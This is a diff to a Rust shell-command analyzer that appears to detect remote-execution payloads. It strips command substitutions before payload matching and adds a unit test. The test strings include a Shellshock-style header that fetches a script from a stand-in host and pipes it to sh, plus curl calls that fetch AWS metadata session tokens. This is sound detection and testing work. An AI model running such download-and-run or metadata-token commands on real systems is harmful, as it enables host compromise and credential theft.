@@ -1297,7 +1297,16 @@ pub(crate) fn payload_words(a: &mut Analyzer, name: &str, inv: &Inv) {
         return;
     }
     for arg in inv.rest().iter().take(64) {
-        let t = arg.text.as_str();
+        // A command substitution the shell itself runs (`-H "X-aws-ec2-metadata-token:
+        // $(curl -X PUT http://169.254.169.254/latest/api/token)"`) was analysed as a command
+        // already; its source text left in the value is not a payload the program carries.
+        let stripped;
+        let t = if arg.from_subst {
+            stripped = without_substitutions(&arg.text);
+            stripped.as_str()
+        } else {
+            arg.text.as_str()
+        };
         if t.len() > 8 * 1024
             || !t.contains(char::is_whitespace)
             || !PAYLOAD_MARKERS.iter().any(|m| t.contains(m))
@@ -1328,6 +1337,38 @@ pub(crate) fn payload_words(a: &mut Analyzer, name: &str, inv: &Inv) {
             return;
         }
     }
+}
+
+/// `text` with each `$(…)` command substitution (nested ones included) and each `` `…` ``
+/// one replaced by `_`: what is left is the text the program receives around the outputs.
+fn without_substitutions(text: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    let mut depth = 0usize;
+    let mut backtick = false;
+    let mut chars = text.chars().peekable();
+    while let Some(c) = chars.next() {
+        if c == '$' && chars.peek() == Some(&'(') {
+            chars.next();
+            if depth == 0 && !backtick {
+                out.push('_');
+            }
+            depth += 1;
+        } else if depth > 0 {
+            match c {
+                '(' => depth += 1,
+                ')' => depth -= 1,
+                _ => {}
+            }
+        } else if c == '`' {
+            if !backtick {
+                out.push('_');
+            }
+            backtick = !backtick;
+        } else if !backtick {
+            out.push(c);
+        }
+    }
+    out
 }
 
 /// A command line given as one quoted argument to a program the analyzer does not know
@@ -1432,6 +1473,33 @@ pub(crate) fn remote_display(a: &mut Analyzer, name: &str, inv: &Inv) {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn substitutions_the_shell_runs_are_not_carried_payloads() {
+        assert_eq!(
+            without_substitutions("X: $(curl -s http://a/$(id)) and `uname` end"),
+            "X: _ and _ end"
+        );
+        let ctx = crate::ShellContext {
+            cwd: "/home/dev/project".into(),
+            home: "/home/dev".into(),
+            project_dir: Some("/home/dev/project".into()),
+        };
+        // IMDSv2 (AWS "Use IMDSv2"): the session token is fetched and sent back as a header.
+        for c in [
+            "TOKEN=$(curl -s -X PUT http://169.254.169.254/latest/api/token -H 'X-aws-ec2-metadata-token-ttl-seconds: 21600') && curl -s -H \"X-aws-ec2-metadata-token: $TOKEN\" http://169.254.169.254/latest/meta-data/instance-id",
+            "curl -H \"X-aws-ec2-metadata-token: $(curl -sX PUT http://169.254.169.254/latest/api/token)\" http://169.254.169.254/latest/meta-data/placement/region",
+        ] {
+            let f = crate::analyze(c, &ctx);
+            assert!(f.remote_exec.is_empty(), "{c}: {:?}", f.remote_exec);
+        }
+        // A payload written literally into a header is still one.
+        let f = crate::analyze(
+            "curl -H 'User-Agent: () { :;}; /bin/bash -c \"curl http://x.example/s | sh\"' http://10.0.0.5/cgi-bin/status",
+            &ctx,
+        );
+        assert!(!f.remote_exec.is_empty());
+    }
 
     #[test]
     fn consoles_run_their_command_there() {
